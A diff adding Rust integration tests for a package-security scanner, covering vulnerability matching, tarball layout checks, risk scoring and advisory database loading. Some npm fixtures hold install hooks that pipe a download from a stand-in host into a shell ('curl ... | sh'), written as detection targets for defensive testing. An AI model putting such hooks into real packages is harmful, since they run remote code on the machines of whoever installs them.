@@ -1,8 +1,15 @@
 //! Integration tests for ThreatFlux Package Security
 
 use std::fs;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
 use tempfile::TempDir;
-use threatflux_package_security::PackageSecurityAnalyzer;
+use threatflux_package_security::core::FindingType;
+use threatflux_package_security::core::PatternSeverity;
+use threatflux_package_security::{
+    AnalysisOptions, AnalysisResult, NpmAnalyzer, PackageAnalyzer, PackageSecurityAnalyzer,
+    PackageSecurityError, ProgressEvent, RiskLevel,
+};
 
 #[tokio::test]
 async fn test_npm_package_analysis() {
@@ -25,6 +32,242 @@ async fn test_npm_package_analysis() {
     assert!(!result.vulnerabilities().is_empty());
 }
 
+#[tokio::test]
+async fn test_declared_ranges_past_the_fix_are_not_vulnerable() {
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+
+    // Caret ranges whose every release postdates the advisories' fixes
+    let npm = TempDir::new().unwrap();
+    fs::write(
+        npm.path().join("package.json"),
+        r#"{"name": "benign", "version": "1.0.0",
+            "dependencies": {"express": "^4.18.2", "lodash": "^4.17.21"}}"#,
+    )
+    .unwrap();
+    let result = analyzer.analyze(npm.path()).await.unwrap();
+    assert!(
+        result.vulnerabilities().is_empty(),
+        "{:?}",
+        result.vulnerabilities()
+    );
+
+    // `>=` floors above the affected ranges
+    let python = TempDir::new().unwrap();
+    fs::write(
+        python.path().join("requirements.txt"),
+        "requests>=2.31.0\npyyaml>=6.0\n",
+    )
+    .unwrap();
+    fs::write(
+        python.path().join("pyproject.toml"),
+        "[project]\nname = \"benign\"\nversion = \"1.0.0\"\n",
+    )
+    .unwrap();
+    let result = analyzer.analyze(python.path()).await.unwrap();
+    assert!(
+        result.vulnerabilities().is_empty(),
+        "{:?}",
+        result.vulnerabilities()
+    );
+
+    // A range reaching back into an affected release still is
+    fs::write(
+        npm.path().join("package.json"),
+        r#"{"name": "stale", "version": "1.0.0", "dependencies": {"lodash": "^4.17.0"}}"#,
+    )
+    .unwrap();
+    let result = analyzer.analyze(npm.path()).await.unwrap();
+    assert!(result
+        .vulnerabilities()
+        .iter()
+        .any(|v| v.id == "CVE-2019-10744"));
+}
+
+#[tokio::test]
+async fn test_analysis_options_on_facade() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{"name": "test-package", "version": "1.0.0", "dependencies": {"lodash": "4.17.10"}}"#,
+    )
+    .unwrap();
+    let skip_vulnerabilities = AnalysisOptions {
+        check_vulnerabilities: false,
+        ..AnalysisOptions::default()
+    };
+
+    // Per call, leaving the analyzer's own options alone
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &skip_vulnerabilities)
+        .await
+        .unwrap();
+    assert!(result.vulnerabilities().is_empty());
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(!result.vulnerabilities().is_empty());
+
+    // For every call
+    let analyzer = PackageSecurityAnalyzer::new()
+        .unwrap()
+        .with_options(skip_vulnerabilities);
+    assert!(!analyzer.options().check_vulnerabilities);
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(result.vulnerabilities().is_empty());
+}
+
+#[tokio::test]
+async fn test_analysis_progress_events() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{"name": "test-package", "version": "1.0.0", "dependencies": {"lodash": "4.17.10"}}"#,
+    )
+    .unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let (sender, mut receiver) = tokio::sync::mpsc::unbounded_channel();
+    analyzer
+        .analyze_with_progress(temp_dir.path(), sender)
+        .await
+        .unwrap();
+
+    // The channel closes once the analysis is done
+    let mut events = Vec::new();
+    while let Some(event) = receiver.recv().await {
+        events.push(event);
+    }
+    assert_eq!(
+        events[..3],
+        [
+            ProgressEvent::ManifestParsed {
+                name: "test-package".to_string(),
+                version: "1.0.0".to_string(),
+            },
+            ProgressEvent::VulnLookupStarted,
+            ProgressEvent::DependencyResolved {
+                name: "lodash".to_string(),
+            },
+        ]
+    );
+    assert!(matches!(
+        events.last(),
+        Some(ProgressEvent::PatternScanComplete { .. })
+    ));
+}
+
+/// Gzipped tarball of `(path, content)` entries
+fn tarball(path: &std::path::Path, entries: &[(&str, &str)]) {
+    let file = fs::File::create(path).unwrap();
+    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
+        file,
+        flate2::Compression::default(),
+    ));
+    for (name, content) in entries {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(content.len() as u64);
+        header.set_mode(0o644);
+        header.set_cksum();
+        builder
+            .append_data(&mut header, name, content.as_bytes())
+            .unwrap();
+    }
+    builder.into_inner().unwrap().finish().unwrap();
+}
+
+#[tokio::test]
+async fn test_npm_tarball_with_smuggled_manifest() {
+    let temp_dir = TempDir::new().unwrap();
+    let archive = temp_dir.path().join("left-pad-helper-1.0.0.tgz");
+    tarball(
+        &archive,
+        &[
+            (
+                "package.json",
+                r#"{"name": "left-pad-helper", "version": "1.0.0"}"#,
+            ),
+            (
+                "package/package.json",
+                r#"{
+                    "name": "left-pad-helper",
+                    "version": "1.0.0",
+                    "dependencies": { "lodash": "4.17.10" }
+                }"#,
+            ),
+            ("package/index.js", "module.exports = (s) => s;"),
+            (
+                "package/lib/package.json",
+                r#"{"name": "left-pad-helper", "version": "9.9.9"}"#,
+            ),
+        ],
+    );
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(&archive).await.unwrap();
+
+    // The package/ manifest is the one analyzed
+    assert_eq!(result.package_info().package_type(), "npm");
+    assert!(!result.vulnerabilities().is_empty());
+    let layout = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::SuspiciousArchiveLayout)
+        .expect("layout deviation reported");
+    assert_eq!(layout.severity, RiskLevel::High);
+    assert_eq!(
+        layout.evidence,
+        [
+            "Analyzed root: package",
+            "Manifest outside the root: package.json",
+            "Nested manifest: package/lib/package.json",
+            "Extra top-level entry: package.json",
+        ]
+    );
+}
+
+#[tokio::test]
+async fn test_npm_tarball_matches_directory() {
+    let temp_dir = TempDir::new().unwrap();
+    let manifest = r#"{
+        "name": "acme-packed",
+        "version": "2.0.0",
+        "scripts": { "postinstall": "node setup.js" },
+        "dependencies": { "lodash": "4.17.10" }
+    }"#;
+    let setup = "require('child_process').exec('curl http://example.invalid | sh');";
+    let directory = temp_dir.path().join("acme-packed");
+    fs::create_dir(&directory).unwrap();
+    fs::write(directory.join("package.json"), manifest).unwrap();
+    fs::write(directory.join("setup.js"), setup).unwrap();
+    let archive = temp_dir.path().join("acme-packed-2.0.0.tar.gz");
+    tarball(
+        &archive,
+        &[
+            ("package/package.json", manifest),
+            ("package/setup.js", setup),
+        ],
+    );
+
+    // `.tar.gz` alone would be taken for a Python sdist, so ask npm directly
+    let analyzer = NpmAnalyzer::new().unwrap();
+    assert!(analyzer.can_analyze(&archive));
+    let unpacked = analyzer.analyze(&directory).await.unwrap();
+    let packed = analyzer.analyze(&archive).await.unwrap();
+    assert_eq!(packed.package.metadata.name, "acme-packed");
+    assert_eq!(
+        packed.risk_assessment().risk_score.total_score,
+        unpacked.risk_assessment().risk_score.total_score
+    );
+    assert_eq!(
+        packed.query().collect().len(),
+        unpacked.query().collect().len()
+    );
+    assert_eq!(
+        packed.dependency_analysis().total_dependencies,
+        unpacked.dependency_analysis().total_dependencies
+    );
+}
+
 #[tokio::test]
 async fn test_python_package_analysis() {
     let temp_dir = TempDir::new().unwrap();
@@ -56,3 +299,1084 @@ fn test_risk_level_ordering() {
     assert!(RiskLevel::Medium < RiskLevel::High);
     assert!(RiskLevel::High < RiskLevel::Critical);
 }
+
+#[tokio::test]
+async fn test_patched_npm_version_not_reported() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "patched-package",
+        "version": "1.0.0",
+        "dependencies": {
+            "lodash": "4.17.21"
+        }
+    }"#;
+
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    assert!(result.vulnerabilities().is_empty());
+}
+
+#[test]
+fn test_register_global_version_scheme() {
+    use threatflux_package_security::{versioning::DebianScheme, VersionSchemeRegistry};
+
+    PackageSecurityAnalyzer::register_global_version_scheme("internal-deb", DebianScheme);
+
+    let scheme = VersionSchemeRegistry::global().get("internal-deb").unwrap();
+    assert!(scheme.satisfies("1:1.0~rc1", "<< 1:1.0").unwrap());
+}
+
+#[tokio::test]
+async fn test_disabled_phase_recorded_with_scan_reason() {
+    use threatflux_package_security::analyzers::npm::NpmAnalyzer;
+    use threatflux_package_security::core::{
+        AnalysisOptions, AnalysisResult, PackageAnalyzer, ScanReason,
+    };
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "ouroboros",
+        "version": "1.0.0",
+        "dependencies": {
+            "lodash": "4.17.10",
+            "ouroboros": "^1.0.0"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let options = AnalysisOptions {
+        check_vulnerabilities: false,
+        ..Default::default()
+    };
+    let result = NpmAnalyzer::new()
+        .unwrap()
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    assert!(result.vulnerabilities().is_empty());
+
+    let phases = &result.risk_assessment().scan_phases;
+    let vuln_phase = phases
+        .iter()
+        .find(|p| p.reason == ScanReason::VulnerabilityCheck)
+        .expect("vulnerability phase recorded");
+    assert!(!vuln_phase.executed);
+    assert_eq!(
+        vuln_phase.disabled_by.as_deref(),
+        Some("check_vulnerabilities")
+    );
+
+    let cycle = &result.risk_assessment().detailed_findings[0];
+    assert_eq!(cycle.scan_reason, Some(ScanReason::DependencyAnalysis));
+    let json = result.to_json().unwrap();
+    assert_eq!(
+        json["risk_assessment"]["detailed_findings"][0]["scan_reason"],
+        "DependencyAnalysis"
+    );
+}
+
+#[tokio::test]
+async fn test_python_names_normalized_for_matching() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("setup.py"),
+        "from setuptools import setup\nsetup(name=\"Flask\", version=\"0.12\")\n",
+    )
+    .unwrap();
+    fs::write(
+        temp_dir.path().join("requirements.txt"),
+        "Flask[async]==0.12\nflask==0.12\nPyYAML==5.3\n",
+    )
+    .unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    // Both spellings of flask collapse into one dependency
+    let deps = &result.dependency_analysis().dependency_tree;
+    assert_eq!(deps.len(), 2);
+    let ids: Vec<_> = result
+        .vulnerabilities()
+        .iter()
+        .map(|v| v.id.as_str())
+        .collect();
+    assert!(ids.contains(&"CVE-2018-1000656"));
+    assert!(ids.contains(&"CVE-2020-14343"));
+
+    // `Flask` is the popular package itself, not a squat on `flask`
+    assert!(result.typosquatting_risk().is_none());
+}
+
+#[tokio::test]
+async fn test_risk_badge_shields_payload() {
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{"name": "acme-dashboard-widgets", "version": "2.1.0"}"#,
+    )
+    .unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+
+    let badge = result.risk_badge();
+    assert_eq!(badge.label, "acme-dashboard-widgets@2.1.0 risk");
+    assert_eq!(badge.message, "safe");
+    assert_eq!(
+        badge.to_shields_json(),
+        serde_json::json!({
+            "schemaVersion": 1,
+            "label": "acme-dashboard-widgets@2.1.0 risk",
+            "message": "safe",
+            "color": "brightgreen",
+        })
+    );
+}
+
+#[tokio::test]
+async fn test_feature_vector_schema() {
+    use threatflux_package_security::core::FeatureVector;
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "feature-fixture",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "node setup.js",
+            "test": "jest"
+        },
+        "dependencies": {
+            "lodash": "4.17.10"
+        },
+        "devDependencies": {
+            "jest": "^29.0.0"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let features = result.feature_vector();
+
+    let values = features.values();
+    assert_eq!(values.len(), FeatureVector::NAMES.len());
+    assert!(values.iter().all(|v| (0.0..=1.0).contains(v)));
+    assert_eq!(
+        &FeatureVector::NAMES[..3],
+        &[
+            "direct_dependencies",
+            "transitive_dependencies",
+            "max_dependency_depth"
+        ]
+    );
+
+    assert_eq!(features.install_scripts, 0.25);
+    assert_eq!(features.dev_dependency_ratio, 0.5);
+    assert!(features.high_vulnerabilities + features.critical_vulnerabilities > 0.0);
+    let by_name: std::collections::HashMap<_, _> = features.iter().collect();
+    assert_eq!(by_name["direct_dependencies"], 0.02);
+}
+
+#[tokio::test]
+async fn test_paranoid_preset_reports_weak_signals() {
+    use threatflux_package_security::core::{AnalysisOptions, FindingType, PackageAnalyzer};
+    use threatflux_package_security::{AnalysisResult, NpmAnalyzer, RiskLevel};
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "quiet-build",
+        "version": "1.0.0",
+        "scripts": {
+            "postinstall": "node -e \"if (process.env.CI) { console.log('ci') }\""
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let default = analyzer
+        .analyze_with_options(temp_dir.path(), &AnalysisOptions::default())
+        .await
+        .unwrap();
+    assert!(default.risk_assessment().detailed_findings.is_empty());
+
+    let paranoid = analyzer
+        .analyze_with_options(temp_dir.path(), &AnalysisOptions::paranoid())
+        .await
+        .unwrap();
+    let findings = &paranoid.risk_assessment().detailed_findings;
+    let evasion = findings
+        .iter()
+        .find(|f| f.finding_type == FindingType::SandboxEvasion)
+        .expect("lone environment check reported");
+    assert_eq!(evasion.severity, RiskLevel::Low);
+    assert!(findings
+        .iter()
+        .any(|f| f.rule_id.as_deref() == Some("TFX-NPM-INSTALL-002")));
+}
+
+#[test]
+fn test_option_presets() {
+    use threatflux_package_security::core::AnalysisOptions;
+    use threatflux_package_security::utils::typosquatting::TyposquattingDetector;
+
+    let paranoid = AnalysisOptions::paranoid();
+    let relaxed = AnalysisOptions::relaxed();
+    assert!(paranoid.flag_install_scripts && paranoid.report_weak_signals);
+    assert!(!relaxed.flag_install_scripts && !relaxed.report_weak_signals);
+    assert!(paranoid.typosquatting_max_distance > relaxed.typosquatting_max_distance);
+    assert!(relaxed.scan_malicious_patterns && relaxed.check_vulnerabilities);
+
+    let detector = TyposquattingDetector::new();
+    assert!(detector.is_typosquatting_within("lodsh-x", paranoid.typosquatting_max_distance));
+    assert!(!detector.is_typosquatting_within("lodsh-x", relaxed.typosquatting_max_distance));
+}
+
+#[tokio::test]
+async fn test_dev_dependency_risk_kept_out_of_production() {
+    use threatflux_package_security::analyzers::npm::NpmAnalyzer;
+    use threatflux_package_security::core::{AnalysisOptions, DependencyType, PackageAnalyzer};
+    use threatflux_package_security::{AnalysisResult, RiskLevel};
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "shipping-app",
+        "version": "1.0.0",
+        "devDependencies": {
+            "lodash": "4.17.10"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let assessment = result.risk_assessment();
+    assert!(!result.vulnerabilities().is_empty());
+    let scoped = assessment.scoped_risk.unwrap();
+    assert_eq!(scoped.production_score, 0.0);
+    assert!(scoped.development_score > 0.0);
+    assert_eq!(assessment.production_risk_level(), RiskLevel::Safe);
+    assert_eq!(
+        assessment.development_risk_level(),
+        assessment.risk_score.risk_level
+    );
+    assert!(assessment.summary.contains("production risk Safe"));
+    let json = result.to_json().unwrap();
+    assert_eq!(
+        json["risk_assessment"]["scoped_risk"]["production_level"],
+        "Safe"
+    );
+
+    // Counting development dependencies as shipped folds them back in
+    let options = AnalysisOptions {
+        production_dependency_types: vec![DependencyType::Runtime, DependencyType::Development],
+        ..Default::default()
+    };
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    let scoped = result.risk_assessment().scoped_risk.unwrap();
+    assert_eq!(scoped.production_score, scoped.development_score);
+}
+
+#[tokio::test]
+async fn test_custom_risk_scoring() {
+    use threatflux_package_security::core::{ComponentWeights, RiskScoringConfig, RiskThresholds};
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "scoring-fixture",
+        "version": "1.0.0",
+        "dependencies": {
+            "lodash": "4.17.10"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    let default = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let default_score = &default.risk_assessment().risk_score;
+    assert!(default_score.scoring.is_none());
+    let vulnerabilities = default_score.components["vulnerabilities"];
+
+    let scoring = RiskScoringConfig {
+        thresholds: RiskThresholds {
+            low: 0.5,
+            medium: 1.0,
+            high: 2.0,
+            critical: 3.0,
+        },
+        weights: ComponentWeights {
+            vulnerabilities: 0.5,
+            ..Default::default()
+        },
+    };
+    let options = AnalysisOptions {
+        scoring: Some(scoring),
+        ..Default::default()
+    };
+    let result = analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    let risk_score = &result.risk_assessment().risk_score;
+
+    // Components carry the weight applied, and add up to the total
+    assert_eq!(
+        risk_score.components["vulnerabilities"],
+        vulnerabilities * 0.5
+    );
+    assert_eq!(
+        risk_score.total_score,
+        risk_score.components.values().sum::<f32>().min(100.0)
+    );
+    assert_eq!(risk_score.risk_level, RiskLevel::Critical);
+    assert_eq!(risk_score.scoring, Some(scoring));
+}
+
+#[tokio::test]
+async fn test_risk_explanation() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "explained-fixture",
+        "version": "1.0.0",
+        "dependencies": {
+            "lodash": "4.17.10"
+        },
+        "scripts": {
+            "preinstall": "curl -s https://evil.example/x.sh | sh"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let result = NpmAnalyzer::new()
+        .unwrap()
+        .analyze(temp_dir.path())
+        .await
+        .unwrap();
+    let explanation = result.risk_explanation();
+    let risk_score = &result.risk_assessment().risk_score;
+    assert_eq!(explanation.len(), risk_score.components.len());
+    assert!(explanation
+        .windows(2)
+        .all(|pair| pair[0].score_contribution >= pair[1].score_contribution));
+    for factor in &explanation {
+        assert_eq!(
+            factor.score_contribution,
+            risk_score.components[&factor.component]
+        );
+    }
+
+    let vulnerabilities = explanation
+        .iter()
+        .find(|f| f.component == "vulnerabilities")
+        .unwrap();
+    assert_eq!(
+        vulnerabilities.to_string(),
+        "1 high vulnerability contributed +7"
+    );
+    // The install script outweighs the vulnerability
+    assert_eq!(explanation[0].component, "malicious_code");
+    assert!(explanation[0]
+        .to_string()
+        .starts_with("1 malicious pattern detected: "));
+}
+
+/// Snapshot with one advisory for `internal-lib` before 2.0.0
+fn internal_snapshot(format_version: u32) -> String {
+    serde_json::json!({
+        "format_version": format_version,
+        "version": "2026.10.14",
+        "generated_at": "2026-10-14T06:00:00Z",
+        "entries": [{
+            "package_name": "internal-lib",
+            "package_type": "npm",
+            "vulnerability": {
+                "id": "ACME-2026-0042",
+                "title": "Token leak in internal-lib",
+                "description": "internal-lib before 2.0.0 logs access tokens",
+                "severity": "High",
+                "cvss_score": 7.5,
+                "cvss_vector": null,
+                "affected_versions": ["< 2.0.0"],
+                "fixed_versions": ["2.0.0"],
+                "published_date": null,
+                "updated_date": null,
+                "references": [],
+                "cwe_ids": ["CWE-532"],
+                "exploit_available": false,
+                "patch_available": true
+            }
+        }]
+    })
+    .to_string()
+}
+
+#[tokio::test]
+async fn test_database_loaded_from_snapshot() {
+    use threatflux_package_security::vulnerability_db::{DatabaseLoadError, DatabaseSource};
+
+    let temp_dir = TempDir::new().unwrap();
+    fs::write(
+        temp_dir.path().join("package.json"),
+        r#"{
+            "name": "billing-service",
+            "version": "1.0.0",
+            "dependencies": { "internal-lib": "1.4.0", "lodash": "4.17.10" }
+        }"#,
+    )
+    .unwrap();
+    let snapshot = temp_dir.path().join("vulns.json");
+    fs::write(&snapshot, internal_snapshot(1)).unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::with_database(DatabaseSource::Path(snapshot.clone()))
+        .await
+        .unwrap();
+    assert_eq!(analyzer.database().version, "2026.10.14");
+    assert_eq!(analyzer.database().entry_count, 1);
+
+    // The snapshot replaces the bundled advisories
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let ids: Vec<_> = result
+        .vulnerabilities()
+        .iter()
+        .map(|v| v.id.as_str())
+        .collect();
+    assert_eq!(ids, ["ACME-2026-0042"]);
+
+    fs::write(&snapshot, internal_snapshot(2)).unwrap();
+    let err = PackageSecurityAnalyzer::with_database(DatabaseSource::Path(snapshot.clone()))
+        .await
+        .err()
+        .unwrap();
+    assert!(matches!(
+        err.downcast_ref::<DatabaseLoadError>(),
+        Some(DatabaseLoadError::UnsupportedFormat { found: 2, .. })
+    ));
+
+    fs::write(&snapshot, &internal_snapshot(1)[..120]).unwrap();
+    let err = PackageSecurityAnalyzer::with_database(DatabaseSource::Path(snapshot))
+        .await
+        .err()
+        .unwrap();
+    assert!(matches!(
+        err.downcast_ref::<DatabaseLoadError>(),
+        Some(DatabaseLoadError::Corrupt { .. })
+    ));
+
+    let bundled = PackageSecurityAnalyzer::new().unwrap();
+    assert_eq!(bundled.database().source, "bundled");
+    assert!(bundled.database().entry_count > 0);
+}
+
+#[cfg(not(feature = "offline"))]
+#[tokio::test]
+async fn test_database_loaded_from_url() {
+    use threatflux_package_security::vulnerability_db::DatabaseSource;
+
+    let mut server = mockito::Server::new_async().await;
+    let snapshot = server
+        .mock("GET", "/vulns/latest.json")
+        .with_status(200)
+        .with_body(internal_snapshot(1))
+        .create_async()
+        .await;
+
+    let analyzer = PackageSecurityAnalyzer::with_database(DatabaseSource::Url(format!(
+        "{}/vulns/latest.json",
+        server.url()
+    )))
+    .await
+    .unwrap();
+    snapshot.assert_async().await;
+    assert_eq!(analyzer.database().entry_count, 1);
+    assert_eq!(
+        analyzer.database().generated_at.unwrap().to_rfc3339(),
+        "2026-10-14T06:00:00+00:00"
+    );
+}
+
+#[tokio::test]
+async fn test_benchmark_scenarios_are_reproducible() {
+    use threatflux_package_security::benchmark::{self, Scenario};
+    use threatflux_package_security::core::PackageAnalyzer;
+    use threatflux_package_security::NpmAnalyzer;
+
+    let analyzer = NpmAnalyzer::new().unwrap();
+    for scenario in Scenario::ALL {
+        let temp_dir = TempDir::new().unwrap();
+        scenario.write(temp_dir.path()).unwrap();
+        let first = analyzer
+            .analyze_with_options(temp_dir.path(), &benchmark::options())
+            .await
+            .unwrap();
+        let second = analyzer
+            .analyze_with_options(temp_dir.path(), &benchmark::options())
+            .await
+            .unwrap();
+        assert_eq!(
+            serde_json::to_value(&first).unwrap(),
+            serde_json::to_value(&second).unwrap(),
+            "{scenario}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn test_external_findings_merged_into_risk() {
+    use threatflux_package_security::core::{ExternalFinding, ScanReason};
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "merge-fixture",
+        "version": "1.0.0",
+        "dependencies": {
+            "lodash": "4.17.10"
+        }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let native = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(native.overall_risk_level() < RiskLevel::Critical);
+    let native_count = native.query().count();
+
+    let external = vec![
+        ExternalFinding::new(
+            "semgrep",
+            RiskLevel::Critical,
+            "malicious",
+            "Hardcoded reverse shell",
+        )
+        .with_location("index.js")
+        .with_id("javascript.reverse-shell"),
+        // Already reported natively for the same dependency
+        ExternalFinding::new(
+            "trivy",
+            RiskLevel::High,
+            "vulnerability",
+            "Prototype pollution in lodash",
+        )
+        .with_location("lodash")
+        .with_id("CVE-2019-10744"),
+    ];
+    let result = analyzer
+        .analyze_with_external(temp_dir.path(), external)
+        .await
+        .unwrap();
+
+    assert_eq!(result.overall_risk_level(), RiskLevel::Critical);
+    assert_eq!(result.query().count(), native_count + 1);
+    let merged = result
+        .risk_assessment()
+        .detailed_findings
+        .iter()
+        .find(|f| f.scan_reason == Some(ScanReason::ExternalSource("semgrep".to_string())))
+        .expect("external finding merged");
+    assert_eq!(merged.finding_type, FindingType::MaliciousPattern);
+    assert_eq!(merged.evidence, vec!["Reported by semgrep"]);
+    assert!(
+        result
+            .risk_assessment()
+            .security_posture
+            .malicious_code_detected
+    );
+    assert!(result
+        .risk_assessment()
+        .scan_phases
+        .iter()
+        .any(
+            |phase| phase.reason == ScanReason::ExternalSource("semgrep".to_string())
+                && phase.findings == 1
+        ));
+}
+
+#[tokio::test]
+async fn test_many_analyzers_share_one_context() {
+    use threatflux_package_security::core::{MaliciousPattern, PatternCategory, PatternSeverity};
+    use threatflux_package_security::AnalyzerContext;
+
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "beacon-client",
+        "version": "1.0.0",
+        "homepage": "https://beacon.internal.example/checkin"
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let context = AnalyzerContext::new()
+        .unwrap()
+        .with_custom_patterns(vec![MaliciousPattern {
+            pattern_id: "ACME_001".to_string(),
+            pattern_name: "Internal beacon host".to_string(),
+            description: "Contacts a host blocked by policy".to_string(),
+            category: PatternCategory::NetworkAccess,
+            severity: PatternSeverity::High,
+            indicators: vec![],
+            regex_patterns: vec![r"beacon\.internal\.example".to_string()],
+            file_patterns: vec![],
+            attack_techniques: vec![],
+            evidence: vec![],
+            file: Default::default(),
+            line: None,
+            column: None,
+            locations: vec![],
+        }])
+        .unwrap();
+    assert_eq!(
+        context.database(),
+        PackageSecurityAnalyzer::new().unwrap().database()
+    );
+
+    // Analyzers built from clones on other threads all use the shared rules
+    let tasks: Vec<_> = (0..32)
+        .map(|_| {
+            let context = context.clone();
+            let path = temp_dir.path().to_path_buf();
+            tokio::spawn(async move {
+                let analyzer = PackageSecurityAnalyzer::from_context(&context).unwrap();
+                let result = analyzer.analyze(&path).await.unwrap();
+                result
+                    .malicious_patterns()
+                    .iter()
+                    .any(|p| p.pattern_id == "ACME_001")
+            })
+        })
+        .collect();
+    for task in tasks {
+        assert!(task.await.unwrap());
+    }
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap();
+    let result = analyzer.analyze(temp_dir.path()).await.unwrap();
+    assert!(!result
+        .malicious_patterns()
+        .iter()
+        .any(|p| p.pattern_id == "ACME_001"));
+}
+
+#[tokio::test]
+async fn test_analyze_many() {
+    let temp_dir = TempDir::new().unwrap();
+    let mut paths = Vec::new();
+    for index in 0..6 {
+        let path = temp_dir.path().join(format!("service-{}", index));
+        fs::create_dir(&path).unwrap();
+        let package_json = format!(
+            r#"{{
+                "name": "service-{}",
+                "version": "1.0.0",
+                "dependencies": {{ "lodash": "4.17.10" }}
+            }}"#,
+            index
+        );
+        fs::write(path.join("package.json"), package_json).unwrap();
+        paths.push(path);
+    }
+    let missing = temp_dir.path().join("missing.unknown");
+    paths.insert(3, missing.clone());
+
+    let analyzer = PackageSecurityAnalyzer::new().unwrap().with_concurrency(2);
+    let results = analyzer.analyze_many(paths.clone()).await;
+
+    // In input order, the failure reported alongside the rest
+    assert_eq!(
+        results.iter().map(|(path, _)| path).collect::<Vec<_>>(),
+        paths.iter().collect::<Vec<_>>()
+    );
+    for (path, result) in &results {
+        if *path == missing {
+            assert!(result.is_err());
+        } else {
+            let result = result.as_ref().unwrap();
+            assert!(!result.vulnerabilities().is_empty());
+        }
+    }
+}
+
+#[tokio::test]
+async fn test_vulnerability_lookup_cache() {
+    let temp_dir = TempDir::new().unwrap();
+    let package_json = r#"{
+        "name": "cached-service",
+        "version": "1.0.0",
+        "dependencies": { "lodash": "4.17.10", "minimist": "1.2.0" }
+    }"#;
+    fs::write(temp_dir.path().join("package.json"), package_json).unwrap();
+
+    let analyzer = Arc::new(PackageSecurityAnalyzer::new().unwrap());
+    let first = analyzer.analyze(temp_dir.path()).await.unwrap();
+    let stats = analyzer.cache_stats();
+    assert!(stats.misses > 0);
+    assert_eq!(stats.hits, 0);
+
+    // Another call, here through a clone of the Arc, answers from the cache
+    let shared = analyzer.clone();
+    let second = shared.analyze(temp_dir.path()).await.unwrap();
+    assert_eq!(analyzer.cache_stats().misses, stats.misses);
+    assert_eq!(analyzer.cache_stats().hits, stats.misses);
+    assert_eq!(
+        first.vulnerabilities().len(),
+        second.vulnerabilities().len()
+    );
+
+    analyzer.clear_cache();
+    assert_eq!(analyzer.cache_stats().entries, 0);
+
+    // A zero TTL looks every package up again
+    let options = AnalysisOptions {
+        vuln_cache_ttl_secs: 0,
+        ..AnalysisOptions::default()
+    };
+    analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    analyzer
+        .analyze_with_options(temp_dir.path(), &options)
+        .await
+        .unwrap();
+    assert_eq!(analyzer.cache_stats().hits, 0);
+    assert_eq!(analyzer.cache_stats().entries, 0);
+}
+
